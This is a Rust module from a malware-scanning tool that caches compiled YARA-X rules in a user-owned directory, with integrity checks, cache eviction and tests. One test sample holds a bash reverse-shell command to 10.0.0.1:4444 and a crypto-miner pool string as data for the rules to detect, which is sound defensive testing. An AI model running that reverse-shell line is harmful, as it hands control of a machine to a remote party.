//! Compiled rules kept across runs, in the user's cache directory
//! (`$XDG_CACHE_HOME/layerhound/rules`, else `~/.cache/layerhound/rules`), never beside the
//! evidence: nothing in them comes from it. Compiling the built-in pack, its gates and the
//! pieces a scan makes cost about 1 CPU-s per run; reading them back, a few hundredths.
//!
//! An entry is found by its key, the sha256 of everything that decides the compiled result:
//! what is compiled (the whole pack, strict or tolerant, less the files left out; or a piece),
//! every source in order (namespace, origin, text), the externals, yara-x's version,
//! layerhound's, and the executable's size and modification time (another build of layerhound
//! never reads what this one wrote). Sources holding an `include` are not cached: what they
//! include is not in the key. An entry cut short, altered, written for another key or refused by
//! yara-x is compiled again and rewritten, silently: the cache changes how fast a scan starts,
//! never what it reports. At most [`MAX_BYTES`] are kept, the entries used longest ago dropped
//! first.
//!
//! yara-x reads serialized rules without the checks it makes on sources (its documentation:
//! never from bytes a third party could produce or alter), so entries are only read from a
//! directory only this user can write to, and only files this user owns.

use std::fs::File;
use std::io::Read;
use std::os::unix::fs::OpenOptionsExt;
use std::panic::{self, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::SystemTime;

use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};
use yara_x_parser::cst::{SyntaxKind, CST};
use yara_x_parser::Parser;

use super::EXTERNALS;
use crate::shared::cache_file;
use crate::shared::digest::{fingerprint, Sha256Sum};

/// What every entry starts with (the format's version is in it).
const MAGIC: &[u8; 8] = b"LHRULES1";
const EXTENSION: &str = "yarc";
/// Bytes of entries kept; past it the least recently used go. signature-base and its pieces
/// take about 60 MB, the built-in pack and its pieces 3 MB.
const MAX_BYTES: u64 = 256 << 20;
/// Largest entry read.
const MAX_ENTRY_BYTES: u64 = 1 << 30;

/// A directory of compiled rules.
pub struct RulesCache {
    dir: PathBuf,
}

/// Which entry holds a compile's result.
pub(super) struct Key(Sha256Sum);

#[derive(Serialize, Deserialize)]
struct Header<T> {
    key: Sha256Sum,
    /// What the compile gave besides the rules.
    facts: T,
}

/// Why compiled rules are not kept between runs.
#[derive(Debug, thiserror::Error)]
pub enum CacheRefused {
    #[error("neither XDG_CACHE_HOME nor HOME names an absolute directory")]
    NoHome,
    #[error("{}: {source}", dir.display())]
    Unsafe { dir: PathBuf, source: std::io::Error },
}

impl RulesCache {
    /// The user's cache, unless there is no home or its directory is refused as [`in_dir`] says.
    ///
    /// [`in_dir`]: RulesCache::in_dir
    pub fn user() -> Result<RulesCache, CacheRefused> {
        Self::in_dir(cache_file::user_dir("rules").ok_or(CacheRefused::NoHome)?)
    }

    /// A cache in `dir`, made if missing; refused if it cannot be made or another user could
    /// write to it (what is read back is code for the scanner).
    pub fn in_dir(dir: PathBuf) -> Result<RulesCache, CacheRefused> {
        match cache_file::private_dir(&dir) {
            Ok(real) => Ok(RulesCache { dir: real }),
            Err(source) => Err(CacheRefused::Unsafe { dir, source }),
        }
    }

    /// The key of compiling `sources` (namespace, origin, text) as `what` says; None when a
    /// source includes another file, or this executable's build cannot be told.
    pub(super) fn key<'a>(&self, what: &[&'a str], sources: impl Iterator<Item = [&'a str; 3]> + Clone) -> Option<Key> {
        let build = build_identity()?;
        if sources.clone().any(|[_, _, text]| includes(text)) {
            return None;
        }
        let format = std::str::from_utf8(MAGIC).unwrap_or_default();
        let parts = [format, env!("CARGO_PKG_VERSION"), yara_x::VERSION, std::env::consts::ARCH, build]
            .into_iter()
            .chain(EXTERNALS)
            .chain(what.iter().copied())
            .chain(sources.flatten());
        Some(Key(fingerprint(parts)))
    }

    fn path(&self, key: &Key) -> PathBuf {
        self.dir.join(format!("{}.{EXTENSION}", hex::encode(&key.0.as_bytes()[..16])))
    }

    /// The rules and facts of an earlier compile under `key` when there is an entry and `usable`
    /// takes its facts; else what `compile` gives, kept under `key` for the next run.
    pub(super) fn load_or_compile<T: Serialize + DeserializeOwned, E>(
        &self,
        key: Option<Key>,
        usable: impl Fn(&T) -> bool,
        compile: impl FnOnce() -> Result<(yara_x::Rules, T), E>,
    ) -> Result<(yara_x::Rules, T), E> {
        if let Some(earlier) = key.as_ref().and_then(|key| self.load::<T>(key)).filter(|(_, facts)| usable(facts)) {
            return Ok(earlier);
        }
        let (rules, facts) = compile()?;
        if let Some(key) = &key {
            self.save(key, &rules, &facts);
        }
        Ok((rules, facts))
    }

    /// The rules and facts of an earlier compile with this key; None when there is no usable
    /// entry.
    fn load<T: DeserializeOwned>(&self, key: &Key) -> Option<(yara_x::Rules, T)> {
        let path = self.path(key);
        let mut file = File::options().read(true).custom_flags(libc::O_NOFOLLOW).open(&path).ok()?;
        let meta = file.metadata().ok()?;
        if !cache_file::is_private(&meta) || meta.len() > MAX_ENTRY_BYTES {
            return None;
        }
        let mut bytes = Vec::with_capacity(meta.len() as usize);
        file.read_to_end(&mut bytes).ok()?;
        let contents = cache_file::contents(&bytes, MAGIC).ok()?;
        let (length, rest) = contents.split_first_chunk::<8>()?;
        let (header, rules) = rest.split_at_checked(usize::try_from(u64::from_le_bytes(*length)).ok()?)?;
        let header: Header<T> = postcard::from_bytes(header).ok()?;
        if header.key != key.0 {
            return None;
        }
        // yara-x checks the bytes' format and version; a panic on anything it missed is a miss
        // too.
        let rules = panic::catch_unwind(AssertUnwindSafe(|| yara_x::Rules::deserialize(rules))).ok()?.ok()?;
        // Used now: the last to be dropped.
        let _ = file.set_modified(SystemTime::now());
        Some((rules, header.facts))
    }

    /// Keeps `rules` and `facts` under `key`; a failure to write leaves the cache as it was.
    fn save<T: Serialize>(&self, key: &Key, rules: &yara_x::Rules, facts: &T) {
        let Ok(serialized) = rules.serialize() else { return };
        let Ok(header) = postcard::to_stdvec(&Header { key: key.0, facts }) else { return };
        let length = (header.len() as u64).to_le_bytes();
        if cache_file::write(&self.dir, &self.path(key), MAGIC, &[&length, &header, &serialized]).is_ok() {
            self.trim();
        }
    }

    /// Drops the entries used longest ago while there are more than [`MAX_BYTES`] of them.
    fn trim(&self) {
        let Ok(listing) = std::fs::read_dir(&self.dir) else { return };
        let mut entries: Vec<(SystemTime, u64, PathBuf)> = listing
            .flatten()
            .filter(|entry| entry.path().extension().is_some_and(|ext| ext == EXTENSION))
            .filter_map(|entry| {
                let meta = entry.metadata().ok()?;
                Some((meta.modified().ok()?, meta.len(), entry.path()))
            })
            .collect();
        let mut total: u64 = entries.iter().map(|(_, size, _)| size).sum();
        entries.sort();
        for (_, size, path) in entries {
            if total <= MAX_BYTES {
                break;
            }
            if std::fs::remove_file(&path).is_ok() {
                total -= size;
            }
        }
    }

    pub fn dir(&self) -> &Path {
        &self.dir
    }
}

/// Whether a rule file includes another (its text alone does not say what it compiles to).
fn includes(text: &str) -> bool {
    text.contains("include")
        && CST::try_from(Parser::new(text.as_bytes()))
            .map_or(true, |cst| cst.root().children().any(|node| node.kind() == SyntaxKind::INCLUDE_STMT))
}

/// This executable's size and modification time: another build of layerhound has other ones.
fn build_identity() -> Option<&'static str> {
    static IDENTITY: OnceLock<Option<String>> = OnceLock::new();
    IDENTITY
        .get_or_init(|| {
            let meta = std::env::current_exe().and_then(std::fs::metadata).ok()?;
            let since = meta.modified().ok()?.duration_since(SystemTime::UNIX_EPOCH).ok()?;
            Some(format!("{} {}.{:09}", meta.len(), since.as_secs(), since.subsec_nanos()))
        })
        .as_deref()
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;
    use std::sync::Arc;
    use std::time::Duration;

    use super::super::{RuleSet, BUILTIN};
    use super::*;

    /// The entries in `dir`, by name.
    fn entries(dir: &Path) -> Vec<PathBuf> {
        let mut found: Vec<PathBuf> = std::fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().path()).collect();
        found.sort();
        found
    }

    /// What a set finds in a few files (built-in examples, a PE, an ELF), whole pack and pieces.
    fn findings(set: &RuleSet) -> Vec<String> {
        let mut files: Vec<(String, Vec<u8>)> = vec![
            ("/srv/a.exe".into(), b"MZ\x90\x00 stratum+tcp://pool.example:3333 xmrig".to_vec()),
            ("/usr/bin/x".into(), b"\x7fELF\x02\x01 bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_vec()),
        ];
        let examples: serde_json::Value = serde_json::from_str(include_str!("../../../signatures/yara/examples.json")).unwrap();
        for case in examples["examples"].as_array().unwrap().iter().flat_map(|e| ["match", "no_match"].map(|key| &e[key])) {
            for case in case.as_array().unwrap() {
                files.push((case["path"].as_str().unwrap().to_string(), case["text"].as_str().unwrap().as_bytes().to_vec()));
            }
        }
        let mut scanner = set.scanner();
        files
            .iter()
            .flat_map(|(path, bytes)| {
                let hits = scanner.scan(bytes, path, "root", Duration::from_secs(30)).unwrap();
                hits.into_iter().map(move |hit| format!("{path} {}.{} {:?}", hit.rule.namespace, hit.rule.id, hit.matches))
            })
            .collect()
    }

    fn listing(set: &RuleSet) -> Vec<String> {
        set.rules().iter().map(|rule| format!("{rule:?}")).collect()
    }

    #[test]
    fn a_cold_and_a_warm_cache_give_the_rules_compiling_gives() {
        let dir = tempfile::tempdir().unwrap();
        let cache = || RulesCache::in_dir(dir.path().join("rules")).ok();
        let fresh = RuleSet::compile(&[], true).unwrap().eager();
        fresh.pieces_now();
        let cold = RuleSet::compile_cached(&[], true, false, cache()).unwrap().eager();
        cold.pieces_now();
        // The pack and its gates, and the pieces the examples made.
        findings(&cold);
        cold.pieces_now();
        let written = entries(&dir.path().join("rules"));
        assert!(written.len() >= 3, "{written:?}");
        let warm = RuleSet::compile_cached(&[], true, false, cache()).unwrap().eager();
        assert_eq!(entries(&dir.path().join("rules")), written, "a warm cache writes nothing");
        assert_eq!(listing(&warm), listing(&fresh));
        assert_eq!(warm.fingerprint, fresh.fingerprint);
        assert_eq!(findings(&warm), findings(&fresh));
        assert!(!findings(&fresh).is_empty());
    }

    #[test]
    fn an_entry_is_used_when_its_facts_are_usable_and_compiled_again_otherwise() {
        let dir = tempfile::tempdir().unwrap();
        let cache = RulesCache::in_dir(dir.path().to_path_buf()).unwrap();
        let sources = [["ns", "a.yar", "rule a { condition: true }"]];
        let key = || cache.key(&["test"], sources.iter().copied());
        let compiles = std::cell::Cell::new(0);
        let compile = |facts: u32| {
            compiles.set(compiles.get() + 1);
            Ok::<_, ()>((yara_x::compile(sources[0][2]).unwrap(), facts))
        };
        assert_eq!(cache.load_or_compile(key(), |_| true, || compile(1)).unwrap().1, 1);
        assert_eq!(cache.load_or_compile(key(), |_| true, || compile(2)).unwrap().1, 1, "read back");
        assert_eq!(compiles.get(), 1);
        assert_eq!(cache.load_or_compile(key(), |facts| *facts > 1, || compile(3)).unwrap().1, 3, "facts refused");
        assert_eq!(cache.load_or_compile(key(), |_| true, || compile(4)).unwrap().1, 3, "and rewritten");
        assert_eq!(cache.load_or_compile(None, |_| true, || compile(5)).unwrap().1, 5, "no key: no cache");
        assert_eq!(compiles.get(), 3);
        assert!(cache.load_or_compile::<u32, _>(key(), |_| false, || Err("broken")).is_err());
    }

    #[test]
    fn a_cut_altered_or_foreign_entry_is_compiled_again_and_rewritten() {
        let dir = tempfile::tempdir().unwrap();
        let cache = RulesCache::in_dir(dir.path().to_path_buf()).unwrap();
        let sources = [["ns", "a.yar", "rule a { strings: $a = \"needle\" condition: $a }"]];
        let other = [["ns", "a.yar", "rule b { strings: $a = \"other\" condition: $a }"]];
        let key = cache.key(&["test"], sources.iter().copied()).unwrap();
        let other_key = cache.key(&["test"], other.iter().copied()).unwrap();
        let compile = |text: &str| yara_x::compile(text).unwrap();
        cache.save(&key, &compile(sources[0][2]), &7u32);
        cache.save(&other_key, &compile(other[0][2]), &8u32);
        let (rules, facts) = cache.load::<u32>(&key).unwrap();
        assert_eq!((rules.iter().next().unwrap().identifier(), facts), ("a", 7));
        let path = cache.path(&key);
        let good = std::fs::read(&path).unwrap();

        // Cut short, or one byte changed: the checksum fails.
        std::fs::write(&path, &good[..good.len() / 2]).unwrap();
        assert!(cache.load::<u32>(&key).is_none());
        let mut altered = good.clone();
        altered[good.len() - 10] ^= 0x40;
        std::fs::write(&path, &altered).unwrap();
        assert!(cache.load::<u32>(&key).is_none());
        // Another key's entry under this key's name.
        std::fs::copy(cache.path(&other_key), &path).unwrap();
        assert!(cache.load::<u32>(&key).is_none());
        // Written by a yara-x whose format has another version, checksum and all.
        let contents = cache_file::contents(&good, MAGIC).unwrap();
        let header = 8 + usize::try_from(u64::from_le_bytes(contents[..8].try_into().unwrap())).unwrap();
        let mut foreign = contents.to_vec();
        assert_eq!(&foreign[header..header + 8], b"YARA-X\0\0");
        foreign[header + 8] = foreign[header + 8].wrapping_add(1);
        cache_file::write(dir.path(), &path, MAGIC, &[&foreign]).unwrap();
        assert!(cache.load::<u32>(&key).is_none());
        // Not a cache file at all; a file another user could write.
        std::fs::write(&path, b"YARA-X\0\0 and then some").unwrap();
        assert!(cache.load::<u32>(&key).is_none());
        std::fs::write(&path, &good).unwrap();
        assert!(cache.load::<u32>(&key).is_some());
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        assert!(cache.load::<u32>(&key).is_none());

        // A whole pack through such an entry: compiled again, the same rules, rewritten.
        let pack = tempfile::tempdir().unwrap();
        std::fs::write(pack.path().join("mine.yar"), "rule mine { strings: $a = \"needle\" condition: $a }").unwrap();
        let paths = [pack.path().to_path_buf()];
        let fresh = listing(&RuleSet::compile(&paths, true).unwrap());
        let rules_dir = dir.path().join("pack");
        let cache = || RulesCache::in_dir(rules_dir.clone()).ok();
        RuleSet::compile_cached(&paths, true, false, cache()).unwrap();
        for entry in entries(&rules_dir) {
            let bytes = std::fs::read(&entry).unwrap();
            std::fs::write(&entry, &bytes[..bytes.len() - 1]).unwrap();
        }
        assert_eq!(listing(&RuleSet::compile_cached(&paths, true, false, cache()).unwrap()), fresh);
        for entry in entries(&rules_dir) {
            assert!(cache_file::contents(&std::fs::read(&entry).unwrap(), MAGIC).is_ok(), "{} rewritten whole", entry.display());
        }
    }

    #[test]
    fn a_changed_rule_file_is_compiled_again_and_included_files_are_never_cached() {
        let dir = tempfile::tempdir().unwrap();
        let cache = || RulesCache::in_dir(dir.path().join("rules")).ok();
        let pack = tempfile::tempdir().unwrap();
        let file = pack.path().join("mine.yar");
        let paths = [file.clone()];
        std::fs::write(&file, "rule first { strings: $a = \"needle\" condition: $a }").unwrap();
        let ids = |set: &RuleSet| set.rules().iter().map(|rule| rule.id.clone()).collect::<Vec<_>>();
        let before = RuleSet::compile_cached(&paths, false, false, cache()).unwrap();
        assert_eq!(ids(&before), ["first"]);
        std::fs::write(&file, "rule second { strings: $a = \"needle\" condition: $a }").unwrap();
        assert_eq!(ids(&RuleSet::compile_cached(&paths, false, false, cache()).unwrap()), ["second"]);
        // Tolerant or not is another compile (a file that does not compile is an error or left out).
        assert_eq!(ids(&RuleSet::compile_cached(&paths, false, true, cache()).unwrap()), ["second"]);
        assert_eq!(entries(&dir.path().join("rules")).len(), 3);

        let included = pack.path().join("included.yara");
        std::fs::write(&included, "rule inside { condition: true }").unwrap();
        std::fs::write(&file, format!("include \"{}\"\nrule outer {{ condition: inside }}", included.display())).unwrap();
        let with_include = RuleSet::compile_cached(&paths, false, false, cache()).unwrap();
        assert_eq!(ids(&with_include).len(), 2);
        assert_eq!(entries(&dir.path().join("rules")).len(), 3, "nothing cached for a file with an include");
    }

    #[test]
    fn writers_at_once_leave_one_whole_entry_and_readers_see_a_whole_one_or_none() {
        let dir = tempfile::tempdir().unwrap();
        let cache = Arc::new(RulesCache::in_dir(dir.path().to_path_buf()).unwrap());
        let text: String = BUILTIN.iter().map(|(_, text)| *text).collect::<Vec<_>>().join("\n");
        let sources = [["ns", "all.yar", text.as_str()]];
        let rules = Arc::new(super::super::compile_piece(&[("ns".to_string(), text.clone())]).unwrap());
        let count = rules.iter().count();
        std::thread::scope(|scope| {
            for n in 0..8 {
                let (cache, rules, sources) = (Arc::clone(&cache), Arc::clone(&rules), sources);
                scope.spawn(move || {
                    let key = cache.key(&["race"], sources.iter().copied()).unwrap();
                    for _ in 0..3 {
                        if n % 2 == 0 {
                            cache.save(&key, &rules, &n);
                        } else if let Some((read, _)) = cache.load::<i32>(&key) {
                            assert_eq!(read.iter().count(), count);
                        }
                    }
                });
            }
        });
        assert_eq!(entries(dir.path()).len(), 1, "one entry, no temp files left: {:?}", entries(dir.path()));
        let key = cache.key(&["race"], sources.iter().copied()).unwrap();
        assert_eq!(cache.load::<i32>(&key).unwrap().0.iter().count(), count);
    }

    #[test]
    fn a_directory_another_user_could_write_to_holds_no_cache() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        let refused = RulesCache::in_dir(dir.path().to_path_buf()).err().unwrap().to_string();
        assert!(refused.starts_with(&format!("{}: ", dir.path().display())) && refused.contains("writable by others"), "{refused}");
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
        assert!(RulesCache::in_dir(dir.path().to_path_buf()).is_ok());
    }
}
